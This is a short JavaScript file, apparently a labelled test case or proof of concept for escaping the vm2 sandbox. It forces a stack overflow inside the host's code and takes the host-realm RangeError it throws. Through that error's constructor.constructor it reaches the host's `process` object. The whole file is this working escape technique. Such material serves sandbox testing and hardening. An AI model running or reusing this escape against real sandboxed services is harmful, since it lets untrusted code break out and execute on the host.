// attack: vm2's escape through an error of the host, made when a stack overflows inside of its code
// outcome: error process
// control: outside
const fill = (depth) => {
  try {
    return fill(depth + 1);
  } catch (error) {
    return error;
  }
};
let error = fill(0);
for (let depth = 0; depth < 40; depth++) {
  const nest = (left) => (left ? nest(left - 1) : console.log.call(null, new Proxy({}, {})));
  try {
    nest(depth * 400);
  } catch (thrown) {
    error = thrown;
  }
}
if (!(error instanceof RangeError)) throw new Error(`no overflow: ${error}`);
error.constructor.constructor('return process')().pid;
